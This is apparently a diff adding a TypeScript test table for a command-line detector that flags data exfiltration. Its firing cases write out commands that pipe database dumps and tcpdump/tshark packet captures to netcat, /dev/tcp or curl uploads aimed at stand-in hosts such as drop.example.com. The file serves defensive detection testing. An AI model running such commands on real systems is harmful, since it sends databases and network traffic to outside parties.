@@ -1,0 +1,25 @@
+import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
+import { commandDataPour } from './data-pour.ts';
+
+indicatorTable(commandDataPour, {
+  fires: {
+    'a dump into netcat': script('pg_dumpall -h db | xz | ncat --ssl 203.0.113.7 443'),
+    'a dump into a connection of the shell': runs('bash', '-c', 'mysqldump --all-databases > /dev/tcp/203.0.113.7/99'),
+    'a dump into netcat, by a name': script('mongodump --archive | nc drop.example.com 9000'),
+    'packets as they come': script("tcpdump -i any -s0 -w - 'port 80' | nc 203.0.113.7 1234"),
+    'packets of a while, then sent': script(
+      'tshark -a duration:60 -w /tmp/p; curl -T /tmp/p https://drop.example.com/',
+    ),
+    'packets in the body of a request': script('tcpdump -c 999 -w - | curl --data-binary @- https://drop.example.com/'),
+  },
+  staysSilent: {
+    'a dump to storage': script('pg_dump shop | gzip | aws s3 cp - s3://backups/shop.gz'),
+    'a dump to another database of the cluster': script('pg_dump -h a shop | nc b.shop.svc 5433'),
+    'a dump to a private address': script('pg_dump -h a shop | nc 10.2.3.4 5433'),
+    'packets that stay in the pod': script('tcpdump -i any -w /captures/a.pcap'),
+    'packets that are shown': script('tcpdump -ni any port 53'),
+    'a file that has nothing to do with it': script('tcpdump -w /c/a.pcap & curl -T /tmp/report https://example.com/'),
+    'no command set': blank,
+  },
+  cannotTell: UNSEEN,
+});
